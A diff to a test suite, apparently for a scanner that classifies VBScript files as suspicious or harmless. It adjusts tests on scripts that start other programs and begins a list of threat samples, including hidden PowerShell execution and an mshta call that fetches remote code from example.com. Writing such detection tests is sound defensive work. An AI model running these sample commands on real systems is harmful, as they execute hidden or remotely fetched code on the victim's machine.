@@ -205,10 +205,10 @@ suite('scripts of administrators and builds', () => {
     has(docx({ 'word/a.html': `<html>${shell}</html>` }), 'Script.ShellObject')
     has(Buffer.from(`<html>${shell}</html>`), 'Script.ShellObject')
   })
-  test('that start another program are suspicious', () => {
-    for (const line of ['sh.Run "C:\\Program Files\\App\\app.exe"', 'sh.Run """" & WScript.Arguments(0) & """"'])
-      assert.deepEqual(accusations(packed('a.vbs', shell(line))), ['Script.Start'])
-  })
+  test('that start another program are suspicious', () =>
+    assert.deepEqual(accusations(packed('a.vbs', shell('sh.Run "C:\\Program Files\\App\\app.exe"'))), ['Script.Start']))
+  test('that start the program that their reader names are harmless', () =>
+    harmless(packed('a.vbs', shell('sh.Run """" & WScript.Arguments(0) & """"'))))
   const threats = [
     'sh.Run "powershell -w hidden -c calc", 0',
     'sh.Run "mshta http://example.com/a"',
